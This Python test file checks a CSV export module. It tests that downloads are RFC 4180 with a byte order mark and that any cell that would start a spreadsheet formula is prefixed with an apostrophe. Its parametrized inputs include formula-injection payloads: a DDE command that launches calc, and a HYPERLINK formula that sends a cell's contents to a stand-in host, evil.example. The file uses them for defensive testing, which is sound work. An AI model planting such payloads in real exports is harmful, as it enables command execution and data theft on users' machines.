"""Downloads that no spreadsheet can be attacked through."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.look.escape import clean
from generator.look.export import BYTE_ORDER_MARK, csv_text
from generator.table import Table

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\N{MINUS SIGN}"


def table(*values: object) -> Table:
    return Table("t", ("value",), ("VARCHAR",), tuple((value,) for value in values))


def read(text: str) -> list[list[str]]:
    """Read the file as a spreadsheet does, which skips the byte order mark."""
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def test_a_download_is_rfc_4180_with_a_byte_order_mark() -> None:
    rows = Table(
        "t", ("name", "amount"), ("VARCHAR", "DECIMAL"), (('say "hi", 山田', Decimal("1.50")),)
    )
    assert csv_text(rows) == '\ufeff"name","amount"\r\n"say ""hi"", 山田",1.50\r\n'


def test_a_table_without_rows_has_its_head() -> None:
    assert csv_text(table()) == '\ufeff"value"\r\n'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        ("", '""'),
        (True, "true"),
        (False, "false"),
        (-5, "-5"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (0.1, "0.1"),
        (date(2026, 11, 23), "2026-11-23"),
        (datetime(2026, 11, 23, 9, 5, tzinfo=UTC), "2026-11-23T09:05:00+00:00"),
        (["a", "b"], '"a; b"'),
        ("two\nlines", '"two\nlines"'),
    ],
)
def test_each_value_is_written_as_what_it_is(value: object, written: str) -> None:
    assert csv_text(table(value)).split("\r\n")[1] == written


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\uff1d1+1",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "\u3000=1+1",
        "'=1+1",
        '"=1+1',
        "-5",
        '=HYPERLINK("https://evil.example?"&A1)',
    ],
)
def test_a_text_that_would_be_a_formula_is_guarded(text: str) -> None:
    assert read(csv_text(table(text)))[1][0].startswith("'")


@given(st.lists(st.text()))
def test_what_is_read_back_is_the_text_behind_its_guard(texts: list[str]) -> None:
    found = [row[0] for row in read(csv_text(table(*texts)))[1:]]
    cleaned = [clean(text).replace("\t", " ") for text in texts]
    assert [
        text if text == cell else f"'{text}" for text, cell in zip(cleaned, found, strict=True)
    ] == found


@given(st.text(), st.sampled_from(SIGNS), st.text(alphabet=" \t\n'\"\u3000"))
def test_no_cell_of_text_begins_with_a_sign(rest: str, sign: str, before: str) -> None:
    cell = read(csv_text(table(before + sign + rest)))[1][0]
    assert cell[0] == "'"


def test_column_names_are_guarded_too() -> None:
    assert csv_text(Table("t", ("=a",), ("INTEGER",), ())) == '\ufeff"\'=a"\r\n'
